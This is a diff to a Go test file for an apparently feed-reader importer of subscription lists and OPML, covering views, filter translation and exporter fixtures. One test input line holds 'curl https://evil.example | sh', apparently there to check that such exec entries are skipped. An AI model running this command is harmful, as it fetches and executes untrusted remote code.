@@ -9,6 +9,8 @@ import (
 	"strings"
 	"testing"
 
+	"golang.org/x/tools/txtar"
+
 	"warta/feed"
 	"warta/feed/query"
 )
@@ -132,7 +134,7 @@ https://a.example/f
 https://b.example/f "World/Asia" news "~The B Paper" !
 https://c.example/f tech # a remark
 "query:Fresh:unread = \"yes\" and (tags # \"tech\" or age < 3)"
-"query:Odd:flags # \"x\""
+"query:Odd:links > 3"
 "exec:curl https://evil.example | sh"
 filter:~/bin/x:https://d.example/f
 gopher://e.example/
@@ -144,15 +146,42 @@ tech |  | https://c.example/f |  | tech
 	if got := summary(list); got != want {
 		t.Errorf("got\n%swant\n%s", got, want)
 	}
-	if len(list.Views) != 1 || list.Views[0].Name != "Fresh" || list.Views[0].Query != "unread (in:tech or newer:3d)" {
+	if len(list.Views) != 2 || list.Views[1].Query != "feed:\"https://b.example/f\"" || list.Views[0].Name != "Fresh" || list.Views[0].Query != "unread (in:tech or newer:3d)" {
 		t.Errorf("views %+v", list.Views)
 	}
 	var reasons []string
 	for _, s := range list.Skipped {
 		reasons = append(reasons, s.Reason)
 	}
-	if len(reasons) != 4 || list.Skipped[1].Line != 7 {
+	if len(reasons) != 5 || list.Skipped[1].Line != 7 {
 		t.Errorf("skipped %q", reasons)
+	}
+}
+
+// What stands in several places has one folder here, and views for the others.
+func TestSeveralPlaces(t *testing.T) {
+	list := read(t, `"query:Tech:unread = \"yes\" and tags # \"tech\""
+"query:No tech:tags !# \"tech\""
+https://a.example/f world tech
+https://b.example/f tech
+https://c.example/f world late tech
+`)
+	tech := `in:tech or feed:"https://a.example/f" or feed:"https://c.example/f"`
+	want := []feed.View{{Name: "Tech", Query: "unread (" + tech + ")", Own: true}, {Name: "No tech", Query: "-(" + tech + ")", Own: true},
+		{Name: "tech", Query: tech, Own: true}, {Name: "late", Query: `feed:"https://c.example/f"`, Own: true}}
+	if !reflect.DeepEqual(list.Views, want) {
+		t.Errorf("%+v, want %+v", list.Views, want)
+	}
+	list = read(t, `<opml><body><outline text="News"><outline text="A" xmlUrl="https://a.example/f"/></outline>
+<outline text="Must read"><outline text="A" xmlUrl="https://a.example/f"/><outline text="B" xmlUrl="https://b.example/f"/></outline></body></opml>`)
+	want = []feed.View{{Name: "Must read", Query: `in:"Must read" or feed:"https://a.example/f"`, Own: true}}
+	if !reflect.DeepEqual(list.Views, want) || list.Feeds[0].Folder != "News" {
+		t.Errorf("%+v, want %+v", list, want)
+	}
+	for _, v := range list.Views {
+		if _, err := query.Parse(v.Query); err != nil {
+			t.Error(err)
+		}
 	}
 }
 
@@ -166,17 +195,20 @@ func TestTranslate(t *testing.T) {
 		{`title !~ "^sport$"`, "-title:sport"},
 		{`content =~ ".*ferry.*" and author = "Ann"`, "ferry author:Ann"},
 		{`(tags # "a b" or tags !# "c") and unread == "yes"`, `(in:"a b" or -in:c) unread`},
-		{`age between 0:10`, "(older:0d newer:11d)"},
+		{`age between 0:10`, "newer:11d"},
+		{`age between 2:10`, "(older:2d newer:11d)"},
 		{`age > 7`, "older:8d"},
 		{`rssurl =~ "example\.org"`, "feed:example.org"},
 		{`title =~ "a|b"`, ""},
-		{`flags # "s"`, ""},
+		{`flags # "s"`, "starred"},
+		{`flags !# "s"`, "-starred"},
+		{`flags =`, ""},
 		{`unread =`, ""},
 		{`(unread = "yes"`, ""},
 		{strings.Repeat("(", 10_000), ""},
 		{`unread = "yes" extra`, ""},
 	} {
-		got, err := translate(c.filter)
+		got, err := translate(c.filter, func(tag string) string { return "in:" + quote(tag) })
 		if err != nil {
 			got = ""
 		}
@@ -290,4 +322,28 @@ func FuzzOPML(f *testing.F) {
 			}
 		}
 	})
+}
+
+// Lists of other readers are read as those meant them.
+func TestExporters(t *testing.T) {
+	archive, err := txtar.ParseFile("testdata/exporters.txtar")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := 0; i+1 < len(archive.Files); i += 2 {
+		in, want := archive.Files[i], archive.Files[i+1]
+		t.Run(in.Name, func(t *testing.T) {
+			list := read(t, string(in.Data))
+			got := summary(list)
+			for _, v := range list.Views {
+				got += "view " + v.Name + ": " + v.Query + "\n"
+			}
+			for _, s := range list.Skipped {
+				got += "left out: " + s.Text + ": " + s.Reason + "\n"
+			}
+			if got != string(want.Data) {
+				t.Errorf("got\n%swant\n%s", got, want.Data)
+			}
+		})
+	}
 }
